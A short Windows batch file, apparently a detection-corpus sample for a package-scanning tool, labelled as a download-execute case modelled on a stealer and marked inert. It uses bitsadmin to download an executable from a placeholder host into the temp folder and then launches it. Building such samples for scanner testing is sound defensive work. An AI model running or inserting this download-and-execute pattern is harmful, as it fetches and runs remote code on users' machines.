@echo off
rem pkgguard corpus 131 (download-execute), modelled on [stealer-profile]; inert, never run.
bitsadmin /transfer job /download /priority high https://cdn.example/a.exe %TEMP%\a.exe
start %TEMP%\a.exe
